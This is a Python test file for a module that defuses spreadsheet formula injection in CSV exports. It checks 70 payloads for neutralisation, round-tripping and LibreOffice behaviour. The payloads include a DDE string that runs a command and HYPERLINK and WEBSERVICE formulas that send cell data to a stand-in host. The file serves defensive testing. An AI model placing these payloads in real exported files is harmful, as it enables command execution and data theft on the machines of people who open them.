"""No payload that spreadsheets run leaves this house alive, and each comes back as it was."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from geo.errors import InvalidInput
from geo.files.formulas import defused, restored
from geo.files.sandbox import read_file
from geo.files.tables import write_csv

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "  +", "'=", "''=", "\u00a0=", "＝", " ＋")
BODIES = (
    "1+1",
    'HYPERLINK("http://x.example/?"&A1,"see")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example/"&A1)',
    "SUM(1,2)*DDE(1)",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES]

LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_there_are_seventy() -> None:
    assert len(set(PAYLOADS)) == 70


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_dead_outside_and_whole_again_inside(payload: str) -> None:
    outside = str(defused(payload))
    assert not outside.lstrip(" \u00a0").startswith(LIVE)
    assert restored(outside) == payload


def test_a_file_of_payloads_comes_back_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    assert write_csv(path, ["=name", "n"], [[payload, "1"] for payload in PAYLOADS]) == 70
    with path.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            assert not row[0].lstrip(" \u00a0").startswith(LIVE)
    rows = [row for piece in list(read_file(path))[1:] for row in piece.rows]  # type: ignore[union-attr]
    assert [restored(row[0]) for row in rows] == ["=name", *PAYLOADS]
    assert path.stat().st_mode & 0o077 == 0


def test_a_file_somebody_may_be_mending_is_not_written_over(tmp_path: Path) -> None:
    (tmp_path / "out.csv").write_text("mine")
    with pytest.raises(InvalidInput, match="exists already"):
        write_csv(tmp_path / "out.csv", ["a"], [])


@pytest.mark.drill
def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    office = shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    path = tmp_path / "out.csv"
    write_csv(path, ["name"], [[payload] for payload in PAYLOADS])
    subprocess.run(
        [office, "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(path)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    assert "table:formula=" not in (tmp_path / "out.fods").read_text(encoding="utf-8")
